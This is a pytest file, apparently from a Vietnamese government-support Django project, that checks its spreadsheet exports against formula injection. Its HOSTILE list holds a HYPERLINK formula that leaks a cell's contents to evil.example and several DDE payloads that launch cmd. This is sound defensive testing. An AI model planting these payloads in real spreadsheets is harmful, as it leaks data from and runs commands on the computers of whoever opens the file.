"""Formula injection (issue 18, item 4): a name or title typed as ``=HYPERLINK(…)`` must stay
text in every spreadsheet the system produces. Each official spreadsheet is built with hostile
values, read back with openpyxl, and no cell may be a formula but the totals the writer adds
itself; the hostile text must come back exactly as typed."""

from __future__ import annotations

import dataclasses
import io

import pytest
from openpyxl import load_workbook

from khuyencong.documents import xlsx

# OWASP's formula triggers (=, +, -, @, tab, carriage return), a DDE payload and an error code.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+84912345678+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
]


def workbook_cells(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_text_kept(content: bytes, hostile: list[str], allowed_formulas: int = 0) -> None:
    cells = workbook_cells(content)
    formulas = [cell for cell in cells if cell.data_type == "f"]
    assert len(formulas) == allowed_formulas, [(c.coordinate, c.value) for c in formulas]
    for formula in formulas:  # only the writer's own totals
        assert formula.value.startswith(("=SUM(", "=COUNTA(")), formula.value
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for value in hostile:
        assert value in texts, value
    for cell in cells:
        if cell.data_type == "s" and cell.value in hostile and cell.value[0] in "=+-@\t\r":
            assert cell.quotePrefix, cell.coordinate  # stays text when edited in Excel


def test_the_streaming_list_export_keeps_text_as_text():
    buffer = io.BytesIO()
    xlsx.write(
        buffer,
        title="Danh sách",
        headers=["Tên", "Kinh phí"],
        widths=[30, 14],
        kinds=["text", "money"],
        rows=[[value, 1_000_000] for value in HOSTILE],
        count=len(HOSTILE),
    )
    assert_text_kept(buffer.getvalue(), HOSTILE)
    money = load_workbook(io.BytesIO(buffer.getvalue())).active["B2"]
    assert money.value == 1_000_000 and money.number_format == xlsx.VND_FORMAT


def test_the_report_annex_keeps_hostile_titles_and_names_as_text():
    from khuyencong.reports import render
    from khuyencong.reports.samples import seed_report_2018

    data = seed_report_2018()
    values = iter(HOSTILE * 3)
    sections = []
    for section in data.sections:
        projects = []
        for project in section.projects:
            value = next(values)
            projects.append(
                dataclasses.replace(project, title=value, beneficiary=value, reference=value)
            )
        sections.append(dataclasses.replace(section, projects=tuple(projects)))
    hostile_data = dataclasses.replace(data, sections=tuple(sections))
    assert hostile_data.projects[0][1].title == HOSTILE[0]
    content = render.render_xlsx(hostile_data)
    # the totals row: one COUNTA and a SUM per money column (the four budget sources, disbursed)
    assert_text_kept(content, HOSTILE, allowed_formulas=1 + 4 + 1)
    sheet = load_workbook(io.BytesIO(content)).active
    first = next(cell.row for cell in sheet["C"] if cell.value == HOSTILE[0])
    budget = sheet.cell(row=first, column=7)
    assert isinstance(budget.value, int) and budget.number_format == xlsx.VND_FORMAT


@pytest.mark.django_db
def test_the_contest_decision_keeps_hostile_product_and_holder_names_as_text():
    from khuyencong.beneficiaries.models import Beneficiary
    from khuyencong.contests import documents
    from tests.contests.factories import closed_contest_with_certificates

    contest, _certificates = closed_contest_with_certificates()
    entries = list(documents.recognised_entries(contest))
    for index, entry in enumerate(entries):
        type(entry).objects.filter(pk=entry.pk).update(product_name=HOSTILE[index])
        Beneficiary.objects.filter(pk=entry.beneficiary_id).update(name=HOSTILE[index + 2])
    content = documents.decision_xlsx(contest)
    assert_text_kept(content, HOSTILE[: len(entries)] + HOSTILE[2 : 2 + len(entries)], 1)


@pytest.mark.django_db
def test_the_registration_summary_sheet_keeps_hostile_titles_as_text():
    import datetime

    from khuyencong.demo.registrations import load_bac_kan_2019_registrations
    from khuyencong.registrations.models import Registration
    from khuyencong.registrations.summary_sheet import MONEY_COLUMNS, render_summary_sheet
    from tests.registrations import factories as f

    load_bac_kan_2019_registrations()
    source = f.source("national")
    registrations = Registration.objects.filter(target_year=2019, funding_source=source)
    assert registrations.count() == 5
    for index, registration in enumerate(registrations.order_by("code")):
        Registration.objects.filter(pk=registration.pk).update(title=HOSTILE[index])
    content = render_summary_sheet(f.bac_kan(), 2019, source, issued_on=datetime.date(2018, 6, 15))
    assert_text_kept(content, HOSTILE[:5], allowed_formulas=1 + len(MONEY_COLUMNS))


@pytest.mark.django_db
def test_the_import_template_keeps_hostile_catalog_names_as_text():
    from khuyencong.catalog.models import Industry
    from khuyencong.spreadsheets.template import build_template

    Industry.objects.create(code="HOSTILE", name=HOSTILE[0])
    assert_text_kept(build_template("beneficiaries"), HOSTILE[:1])


def test_only_the_one_writer_creates_workbooks():
    """Every XLSX producer goes through documents/xlsx.py (``new_workbook``/``write``)."""
    from pathlib import Path

    import khuyencong

    root = Path(khuyencong.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "import Workbook" in path.read_text(encoding="utf-8")
        or "xlsxwriter" in path.read_text(encoding="utf-8")
    ]
    assert writers == ["documents/xlsx.py"]
